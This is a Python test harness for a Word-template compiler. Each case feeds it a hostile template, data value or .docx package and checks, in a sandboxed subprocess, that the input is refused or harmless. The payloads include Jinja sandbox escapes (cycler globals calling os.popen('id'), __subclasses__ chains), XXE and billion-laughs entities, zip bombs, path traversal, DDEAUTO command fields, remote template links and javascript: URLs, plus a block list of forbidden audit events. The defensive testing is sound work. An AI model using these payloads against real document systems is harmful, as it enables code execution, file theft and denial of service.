"""Templates and data made to do harm, a hundred kinds and more, and the room in which each is tried.

`python -m tests.kit.hostile TIMES` checks each, and uses it, in a process of its own, with 512 MB and 20 seconds of
processor time (on an idle machine the longest takes two, and five when three times as large), in which nothing may be
opened, started or connected; it prints a JSON object: by name what came of it (refused, harmless, or what went wrong),
and what should have. Some are TIMES as large as they need to be.
"""

import contextlib
import gc
import io
import json
import os
import resource
import signal
import struct
import sys
import zipfile
from collections.abc import Iterator, Mapping
from functools import cache
from pathlib import Path
from typing import Any, NamedTuple

from compiler.flow.blocks import Flow
from compiler.messages.diagnostic import CompileError
from compiler.word.ooxml.package import R
from compiler.word.template.compiled import Template
from compiler.workshop.check import examine
from tests.kit.dialect import DOCUMENT, made, p, r, table, tr
from tests.kit.support import flow_of

_AT_ONCE = 12  # tags of one template
SECONDS, BYTES = 20, 512 * 1024 * 1024
STYLES, SETTINGS, RELS, TYPES = (
    "word/styles.xml",
    "word/settings.xml",
    "word/_rels/document.xml.rels",
    "[Content_Types].xml",
)
REPORT = "文种: 报告\n标题: 题目\n正文: 正文文字。\n署名: 甲局\n成文日期: 2024-1-5\n"


class Case(NamedTuple):
    """A template, the data it is filled with (None: a report goes through it), what must come of it, and in how many paragraphs a refusal must find fault."""

    name: str
    template: bytes
    data: Mapping[str, Any] | None = None
    outcome: str = "refused"
    told: int = 0


# ---- tags ---------------------------------------------------------------------------------------------------------

EXPRESSIONS = {
    "call": "range(9)",
    "call of a method": "标题.upper()",
    "call of format": "'{0.__class__}'.format(标题)",
    "call with keywords": "dict(a=1)",
    "call of a global": "lipsum(5)",
    "cycler": "cycler.__init__.__globals__.os.popen('id').read()",
    "joiner": "joiner.__init__.__globals__",
    "namespace": "namespace.__init__.__globals__",
    "self": "self._TemplateReference__context",
    "config": "config.items()",
    "request": "request.application.__globals__",
    "class": "''.__class__",
    "bases": "().__class__.__bases__[0].__subclasses__()",
    "class of data": "数据.__class__",
    "class of a value by subscript": "标题['__class__']",
    "class by joined text": "标题['__cla' ~ 'ss__']",
    "class by attr": "标题|attr('__class__')",
    "class by a computed name": "标题['\\x5f\\x5fclass__']",
    "globals of a filter": "标题|upper.__globals__",
    "slice": "标题[::-1]",
    "mapping": "{'a': 1}.items()",
    "lambda": "(lambda: 1)()",
    "walrus": "(a := 1)",
    "power": "9**9**9",
    "power of a text": "'9'**99",
    "text times number": "'a' * 1000000000",
    "list times number": "[0] * 1000000000",
    "list plus list": "[0] + [1]",
    "long number": "9" * 900,
    "long product": "*".join(["999999999999"] * 40),
    "infinity": "1e999",
    "not a number": "1e308 * 10",
    "format by percent": "'%999999999d' % 1",
    "percent of text": "标题 % 9",
    "format filter": "'%s'|format(1)",
    "map filter": "署名|map('upper')",
    "select filter": "署名|select('string')",
    "groupby filter": "署名|groupby('__class__')",
    "sort filter": "署名|sort(attribute='__class__')",
    "tojson filter": "标题|tojson",
    "xmlattr filter": "数据|xmlattr",
    "pprint filter": "标题|pprint",
    "indent filter": "标题|indent(999999999)",
    "center filter": "标题|center(999999999)",
    "safe filter": "标题|safe",
    "test": "标题 is callable",
    "test of a sequence": "标题 is divisibleby 0",
    "round to many digits": "1|round(999999999)",
    "deep brackets": "(" * 300 + "1" + ")" * 300,
    "deep lists": "[" * 300 + "]" * 300,
    "deep signs": "-" * 900 + "1",
    "deep not": "not " * 200 + "1",
    "chain of or": " or ".join(["1"] * 200),
    "chain of filters": "1" + "|e" * 300,
    "chain of dots": "数据" + ".a" * 300,
    "chain of comparisons": "<".join(["1"] * 300),
    "chain of texts": "~".join(["标题"] * 200),
    "escape of the tag": "标题 }}{{ 7*7",
    "backslashes": "'\\",
    "null": "标题\u2028__class__",
}
STATEMENTS = {
    "set": "{% set x = 1 %}",
    "set block": "{% set x %}1{% endset %}",
    "import": "{% import 'os' as os %}",
    "from": "{% from 'os' import path %}",
    "include": "{% include '/etc/passwd' %}",
    "extends": "{% extends '/etc/passwd' %}",
    "macro": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "call block": "{% call m() %}{% endcall %}",
    "filter block": "{% filter upper %}x{% endfilter %}",
    "block": "{% block a %}{{ self.a() }}{% endblock %}",
    "autoescape": "{% autoescape false %}{{ 标题 }}{% endautoescape %}",
    "with": "{% with a = 1 %}{% endwith %}",
    "raw": "{% raw %}{{ x }}{% endraw %}",
    "do": "{% do 标题.append(1) %}",
    "recursive loop": "{% for x in 署名 recursive %}{{ loop(署名) }}{% endfor %}",
    "loop with a condition": "{% for x in 署名 if x.__class__ %}{% endfor %}",
    "loop over a call": "{% for x in range(999999999) %}{% endfor %}",
    "loop that names loop": "{% for loop in 署名 %}{% endfor %}",
    "loop that names a dunder": "{% for __class__ in 署名 %}{% endfor %}",
    "loop's own members": "{% for x in 署名 %}{{ loop._iterable }}{% endfor %}",
    "loop's methods": "{% for x in 署名 %}{{ loop.cycle(1, 2) }}{% endfor %}",
    "loops too deep": "{% for x in 署名 %}" * 30 + "{% endfor %}" * 30,
    "line statement": "{% for x in 署名 %}{{ x }}{%+ endfor %}",
}


# Tags that are refused when they are computed, or that are no tag of their own.
_ALONE = (
    *("text times number", "list times number", "list plus list", "long product", "format by percent", "percent of text"),
    *("round to many digits", "chain of comparisons", "chain of texts", "escape of the tag"),
)  # fmt: skip


def _tags() -> Iterator[Case]:
    """Those that are refused where they are read stand together, each in a paragraph of its own, and each is told there."""
    tags = {f"expression: {name}": "{{ " + source + " }}" for name, source in EXPRESSIONS.items()}
    alone = {name: tags.pop(name) for name in [f"expression: {one}" for one in _ALONE]}
    for name, tag in alone.items():
        yield Case(name, made(p(tag)))
    together = [*tags.items(), *((f"statement: {name}", tag) for name, tag in STATEMENTS.items())]
    for at in range(0, len(together), _AT_ONCE):
        some = together[at : at + _AT_ONCE]
        yield Case(
            "; ".join(name for name, _ in some), made("".join(p(tag) for _, tag in some)), told=len(some)
        )


# ---- data ---------------------------------------------------------------------------------------------------------


def _deep(levels: int) -> Any:
    out: Any = "底"
    for _ in range(levels):
        out = [out]
    return out


def _data() -> Iterator[Case]:
    each = p("{% for a in xs %}" * 6 + "{{ a }}" + "{% endfor %}" * 6)
    yield Case("loops in loops", made(each), {"xs": list("0123456789")})
    yield Case(
        "loops in loops of nothing",
        made(p("{% for a in xs %}" * 16 + "{% endfor %}" * 16)),
        {"xs": [1, 2, 3]},
    )
    one = p("{% for a in xs %}{% for b in xs %}{{ t }}{% endfor %}{% endfor %}")
    yield Case("much text in loops", made(one), {"xs": list(range(400)), "t": "字" * 9999})
    yield Case("long text many times", made(p("{{ t }}" * 200)), {"t": "字" * 999_999})
    rows = table(tr("{%tr for a in xs %}"), tr("{{ t }}"), tr("{%tr endfor %}"), columns=1)
    yield Case("much text in rows", made(rows), {"xs": [0] * 3000, "t": "字" * 9999})
    yield Case("many rows", made(rows), {"xs": [0] * 200_001, "t": "字"})
    double = "t" + "|replace('a', t)" * 6
    yield Case("replaced by itself", made(p("{{ " + double + " }}")), {"t": "a" * 100})
    yield Case("joined by a long text", made(p("{{ xs|join(t) }}")), {"xs": ["a"] * 9999, "t": "b" * 9999})
    yield Case("text added to itself", made(p("{{ " + "~".join(["t"] * 30) + " }}")), {"t": "a" * 99_999})
    yield Case("number of many digits", made(p("{{ n * n }}")), {"n": 10**3000})
    yield Case("number said by many digits", made(p("{{ n|中文数字 }}")), {"n": "9" * 100_000})
    yield Case("no number", made(p("{{ n + 1 }}")), {"n": float("nan")})
    yield Case("endless number", made(p("{{ n }}")), {"n": float("inf")})
    yield Case("digits with commas", made(p("{{ n + 1 }}")), {"n": "1" + ",000" * 99_999})
    yield Case("deep data", made(p("{{ x }}")), {"x": _deep(500)})
    circle: dict[str, Any] = {}
    circle["x"] = circle
    yield Case("data within itself", made(p("{{ x }}")), circle)
    yield Case("a function", made(p("{{ x }}")), {"x": print})
    yield Case("an object", made(p("{{ x }}")), {"x": Path("/etc/passwd")})
    yield Case("control character", made(p("{{ x }}")), {"x": "a\x07b"})
    yield Case("half a character", made(p("{{ x }}")), {"x": "a\ud800b"})
    yield Case("noncharacter", made(p("{{ x }}")), {"x": "a\uffffb"})
    yield Case("members of a text", made(p("{{ x.__class__ }}")), {"x": "a"})
    yield Case("dunders as keys", made(p("{{ x }}")), {"__class__": "a", "x": "b"}, "harmless")
    tags = "{{ 7*7 }}{% for x in y %}{#{%p if %}｛｛</w:t></w:r><!--<?t 1?>]]>&#123;{"
    yield Case(
        "tags in data",
        made(p("{{ x }}") + p("{{p x }}") + rows),
        {"x": tags, "xs": [1], "t": tags},
        "harmless",
    )
    yield Case("tags in a report", made(p("{{ 标题 }}{{p 全文 }}")), None)
    link = f'<Relationship Id="rId9" Type="{R}/hyperlink" Target="{{{{ u }}}}" TargetMode="External"/></Relationships>'
    linked = made(p("文"), changes={RELS: [("</Relationships>", link)]})
    for address in (
        "javascript:alert(1)",
        "file:///etc/passwd",
        "\\\\host\\share",
        'https://x/\n"><a',
        "data:text/html,x",
    ):
        yield Case(f"link to {address.split(':')[0]}", linked, {"u": address})
    field = '<w:p><w:r><w:instrText>HYPERLINK "https://x/{{ u }}"</w:instrText></w:r></w:p>'
    yield Case("end of a field in data", made(field), {"u": '" \\o INCLUDETEXT "/etc/passwd'}, "harmless")
    yield Case("colour in data", made(table(tr("{% cellbg u %}甲"))), {"u": '"/><w:x a="'})
    yield Case("width in data", made(table(tr("{% colspan u %}甲"))), {"u": "99999999"})


# ---- files --------------------------------------------------------------------------------------------------------


def _zip(entries: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def _files() -> Iterator[Case]:
    sound = made(p("{{p 标题 }}") + p("{{p 全文 }}") + p("{{p 落款 }}"))
    yield Case("nothing", b"")
    yield Case("not a zip file", b"x" * 99_999)
    yield Case("web page", b"<html><body>x</body></html>")
    yield Case("old .doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 9999)
    yield Case("cut short", sound[: len(sound) // 2])
    yield Case("zip bomb", made("", {"word/media/a.bin": "0" * 60_000_000}))
    yield Case("too large", b"PK\x03\x04" + b"\0" * 65 * 1024 * 1024)
    yield Case("many entries", made("", {f"word/media/{n}.bin": "" for n in range(2_500)}))
    yield Case("path out of the folder", made("", {"../../etc/passwd": "x"}))
    yield Case("absolute path", made("", {"/etc/passwd": "x"}))
    yield Case("names that differ in case", made("", {"WORD/DOCUMENT.XML": "x"}))
    inner = _zip({"a": b"0" * 9_999_999})
    yield Case(
        "zip in a zip",
        made(p("{{p 标题 }}") + p("{{p 全文 }}") + p("{{p 落款 }}"), {"word/media/a.zip": ""}),
        outcome="harmless",
    )
    yield Case("zip bomb in a zip", _zip({"a.zip": inner, "[Content_Types].xml": b""}))
    at = sound.rindex(b"PK\x01\x02")
    lie = bytearray(sound)
    lie[at + 24 : at + 28] = struct.pack("<I", 999_999_999)
    yield Case("size that is a lie", bytes(lie))
    short = bytearray(sound)
    for found in _all(sound, b"PK\x01\x02"):
        short[found + 24 : found + 28] = struct.pack("<I", 10)
    yield Case("size that is too small", bytes(short))
    locked = bytearray(sound)
    for found in _all(sound, b"PK\x01\x02"):
        locked[found + 8] |= 1
    yield Case("encrypted entries", bytes(locked))
    yield Case("no document", _zip({"[Content_Types].xml": b"<Types/>"}))
    entity = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    for part, root in (
        (DOCUMENT, "document"),
        (STYLES, "styles"),
        ("word/footer1.xml", "ftr"),
        ("word/numbering.xml", "numbering"),
    ):
        yield Case(
            f"outer entity in {part}", made("", changes={part: [(f"<w:{root}", f"{entity}<w:{root}")]})
        )
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha" * 99}">' for n in range(9))
    yield Case(
        "billion laughs",
        made(p("&a8;"), changes={DOCUMENT: [("<w:document", f"<!DOCTYPE x [{laughs}]><w:document")]}),
    )
    yield Case("entity in links", made("", changes={RELS: [("<Relationships", f"{entity}<Relationships")]}))
    yield Case("entity that is not there", made(p("&a;")))
    yield Case("deep elements", made("<w:sdt>" * 9000 + "</w:sdt>" * 9000))
    yield Case("a million elements", made("<w:p/>" * 1_100_000))
    yield Case("a million attributes", made("<w:p " + " ".join(f'a{n}="1"' for n in range(300_000)) + "/>"))
    yield Case("long attribute", made(f'<w:p w:rsidR="{"0" * 11_000_000}"/>'))
    yield Case("long text", made(p("字" * 6_000_000)))
    yield Case("bad characters", made(p("\x01")))
    yield Case("broken XML", made("<w:p>"))
    yield Case("other encoding", made("", changes={DOCUMENT: [('encoding="UTF-8"', 'encoding="x-no-such"')]}))
    yield Case("macros", made("", {"word/vbaProject.bin": "x"}))
    main = "wordprocessingml.document.main+xml"
    yield Case(
        "macro document",
        made(
            "",
            changes={
                TYPES: [
                    (
                        f"application/vnd.openxmlformats-officedocument.{main}",
                        "application/vnd.ms-word.document.macroEnabled.main+xml",
                    )
                ]
            },
        ),
    )


def _all(data: bytes, sign: bytes) -> Iterator[int]:
    at = data.find(sign)
    while at >= 0:
        yield at
        at = data.find(sign, at + 1)


def _remote() -> Iterator[Case]:
    body = p("{{p 标题 }}") + p("{{p 全文 }}") + p("{{p 落款 }}")
    for kind in (
        "image",
        "oleObject",
        "subDocument",
        "frame",
        "aFChunk",
        "package",
        "mailMergeSource",
        "video",
        "control",
    ):
        link = f'<Relationship Id="rId9" Type="{R}/{kind}" Target="https://x.example/a" TargetMode="External"/></Relationships>'
        yield Case(f"remote {kind}", made(body, changes={RELS: [("</Relationships>", link)]}))
    for code in (
        'INCLUDETEXT "/etc/passwd"',
        'INCLUDEPICTURE "https://x/a.png"',
        'DDEAUTO cmd "/c calc"',
        "dde x y",
        'LINK Excel "a"',
        'DATABASE \\d "a"',
        'IMPORT "a"',
    ):
        yield Case(
            f"field {code.split()[0]}",
            made(body + f"<w:p><w:r><w:instrText> {code} </w:instrText></w:r></w:p>"),
        )
        yield Case(
            f"simple field {code.split()[0]}", made(body + f"<w:p><w:fldSimple w:instr='{code}'/></w:p>")
        )
    for target in (
        "javascript:alert(1)",
        "file:////host/x.exe",
        "ms-word:ofe|u|https://x/a.dotm",
        "a.exe",
        "%66ile:///x",
    ):
        link = f'<Relationship Id="rId9" Type="{R}/hyperlink" Target="{target}" TargetMode="External"/></Relationships>'
        yield Case(f"fixed link to {target}", made(body, changes={RELS: [("</Relationships>", link)]}))
        for code in (f'HYPERLINK "{target}"', f"HYPERLINK {target}", f'hyperlink \\o "https://x" "{target}"'):
            field = f"<w:p><w:r><w:instrText> {code} </w:instrText></w:r></w:p>"
            yield Case(f"field {code}", made(body + field))
    nested = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK "</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE "file:"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    yield Case("link made up by a field", made(body + nested))
    for name, code in (
        ("web", 'HYPERLINK "https://x.cn/a?b=1" \\o "提示"'),
        ("bookmark", 'HYPERLINK \\l "书签"'),
        ("bookmark of this file", 'HYPERLINK "" \\l "书签"'),
    ):
        field = f"<w:p><w:r><w:instrText> {code} </w:instrText></w:r></w:p>"
        yield Case(f"link to a {name}", made(body + field), outcome="harmless")
    for kind, attribute in (("imagedata", "src"), ("fill", "src"), ("shape", "href")):
        drawn = f'<v:{kind} xmlns:v="urn:schemas-microsoft-com:vml" {attribute}="file:///c:/x.png"/>'
        yield Case(f"old drawing: {kind}", made(body + f"<w:p><w:r><w:pict>{drawn}</w:pict></w:r></w:p>"))
    for part, kind in (
        ("word/activeX/activeX1.xml", "control"),
        ("customUI/customUI.xml", ""),
        ("word/any.xml", "aFChunk"),
        ("word/any.bin", "control"),
    ):
        link = f'<Relationship Id="rId9" Type="{R}/{kind}" Target="/{part}"/></Relationships>'
        changes = {RELS: [("</Relationships>", link)]} if kind else {}
        yield Case(f"active part {part} {kind}", made(body, {part: "<a/>"}, changes))
    split = "<w:p><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd x</w:instrText></w:r></w:p>"
    yield Case("field in pieces", made(body + split))
    attached = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{R}/attachedTemplate" Target="https://x.example/evil.dotm" TargetMode="External"/></Relationships>'
    yield Case("remote template", made(body, {"word/_rels/settings.xml.rels": attached}), outcome="harmless")


def _slow(times: int) -> Iterator[Case]:
    """Much of one thing: `times` as much as shows what grows faster than it should."""
    yield Case("many {{", made(p("{{" * 100_000)))
    yield Case("many }}", made(p("}}" * 100_000)))
    yield Case(
        "many {",
        made(p("{ " * 150_000 * times) + p("{{p 标题 }}") + p("{{p 全文 }}") + p("{{p 落款 }}")),
        outcome="harmless",
    )
    yield Case("a great many {", made(p("{" * 300_000 * times)))
    yield Case("many {%p", made(p("{%p " * 60_000)))
    yield Case("many ｛｛", made(p("｛｛" * 100_000)))
    yield Case("many {%-", made(p("{%-" * 50_000)))
    yield Case("many -%}", made(p("-%}" * 50_000)))
    yield Case("many {#", made(p("{# " * 50_000)))
    yield Case("many {{ in runs", made("<w:p>" + r("{") * 60_000 + "</w:p>"))
    yield Case("blanks in a tag", made(p("{{ 标题" + " " * 300_000 * times + "}}")))
    yield Case("long tag", made(p("{{ " + "a" * 5_000 + " }}")))
    yield Case("quotation marks", made(p("{{ " + "'" * 901 + " }}")))
    yield Case("backslashes in a text", made(p("{{ '" + "\\" * 901 + " }}")))
    yield Case("many tags", made(p("{{ 标题 }}") * 2_001))
    yield Case(
        "many paragraph tags",
        made(
            (p("{%p if 标题 %}") + p("{%p endif %}")) * 330 * times
            + p("{{p 标题 }}")
            + p("{{p 全文 }}")
            + p("{{p 落款 }}")
        ),
        outcome="harmless",
    )
    yield Case(
        "many rows",
        made(
            table(*[tr("{%tr if 标题 %}"), tr("{%tr endif %}")] * 300 * times, columns=1)
            + p("{{p 标题 }}")
            + p("{{p 全文 }}")
            + p("{{p 落款 }}")
        ),
        outcome="harmless",
    )
    yield Case(
        "large table with a tag",
        made(table(*[tr("甲", "乙")] * 3_000 * times, tr("{%tr if 标题 %}", ""), tr("{%tr endif %}", ""))),
    )
    yield Case(
        "many cells with tags",
        made(
            table(tr(*["{% cellbg '00FF00' %}甲"] * 300 * times), columns=300 * times)
            + p("{{p 标题 }}")
            + p("{{p 全文 }}")
            + p("{{p 落款 }}")
        ),
        outcome="harmless",
    )
    yield Case(
        "cells merged without a loop", made(table(tr(*["{% hm %}甲"] * 300 * times), columns=300 * times))
    )
    yield Case("open tags in many paragraphs", made(p("{% if 标题 %}") * 1_500))
    yield Case("wrong tags in many paragraphs", made(p("{{ 标提 }}") * 1_500))
    yield Case("braces in attributes", made('<w:p w:rsidR="{{ 标题 }}"/>' * 7_000 * times))
    yield Case(
        "own signs in the text",
        made(p("{% t1 %}") + p("&lt;?t 1?>") + "<?t 1?><?cut?><?restart?>" + p("{{p 标题 }}")),
    )
    yield Case(
        "signs of ours as instructions",
        made("<?t 1?><?cut?><?restart?><?p 1?>" + p("{{p 标题 }}") + p("{{p 全文 }}") + p("{{p 落款 }}")),
        outcome="harmless",
    )


def cases(times: int) -> Iterator[Case]:
    """All of them, one at a time: some are large, `times` as much as they need to be."""
    for kind in (_tags, _data, _files, _remote):
        yield from kind()
    yield from _slow(times)


# ---- the room -----------------------------------------------------------------------------------------------------

_FORBIDDEN = (
    "open",
    "socket.",
    "subprocess.",
    "os.",
    "shutil.",
    "ctypes.",
    "urllib.",
    "import",
    "pty.",
    "webbrowser.",
)
_FREE = ("os.putenv", "os.unsetenv")


@cache
def _flow() -> Flow:
    return flow_of(REPORT)


def _use(case: Case) -> None:
    template = Template.compile(case.template, "mine.docx", free=case.data is not None)
    template.render(_flow()) if case.data is None else template.fill(case.data)


def _try(case: Case) -> str:
    """What comes of a case, in this process: of a check of a template that reports go through, which refuses none, and then of using it."""
    import encodings.utf_16_le  # noqa: F401  # imported late where a file is no .docx; the watch is on what cases do

    import compiler.source.folder  # noqa: F401

    watching: list[bool] = []
    broken: list[str] = []

    def watch(event: str, args: tuple[object, ...]) -> None:
        if watching and event.startswith(_FORBIDDEN) and event not in _FREE:
            if event == "import" and args and str(args[0]) in sys.modules:
                return
            broken.append(f"{event} {args}"[:200])

    sys.addaudithook(watch)
    resource.setrlimit(resource.RLIMIT_CPU, (SECONDS, SECONDS))
    resource.setrlimit(resource.RLIMIT_AS, (BYTES, BYTES))
    watching.append(True)
    done = "checked: "
    try:
        if case.data is None:
            examine(case.template, "mine.docx")
        done = ""
        _use(case)
        outcome = "harmless"
    except CompileError as error:
        found = {one.place.paragraph for one in error.diagnostics if one.place}
        outcome = f"{done}refused" if len(found) >= case.told else f"told of {sorted(found)} alone"
        for one in error.diagnostics:
            one.message("zh"), one.message("en"), one.hint("zh"), one.hint("en")
    except BaseException as error:
        outcome = f"{done}{type(error).__name__}: {error}"[:300]
    watching.clear()
    return broken[0] if broken else outcome


def _alone(case: Case) -> str:
    """The same in a process of its own."""
    source, target = os.pipe()
    child = os.fork()
    if not child:
        signal.signal(signal.SIGXCPU, signal.SIG_DFL)
        with contextlib.suppress(BaseException):
            os.write(target, _try(case).encode("utf-8", "replace")[:500])
        os._exit(0)
    os.close(target)
    with os.fdopen(source, "rb") as answer:
        said = answer.read().decode("utf-8", "replace")
    _, status = os.waitpid(child, 0)
    return said or f"killed by signal {os.WTERMSIG(status)}"


def main() -> None:
    """Try them all; print outcome and what was wanted, by name."""
    # What is imported and looked up once is done before: what a case then opens is its own doing.
    rows = table(tr("{%tr for x in xs %}"), tr("{{ x|默认('无') }}"), tr("{%tr endfor %}"))
    Template.compile(made(rows), "a", free=True).fill({"xs": [1]})
    examine(made(rows), "a")
    _flow()
    gc.set_threshold(100_000)  # as the command does
    gc.freeze()
    json.dump({case.name: (_alone(case), case.outcome) for case in cases(int(sys.argv[1]))}, sys.stdout)


if __name__ == "__main__":
    main()
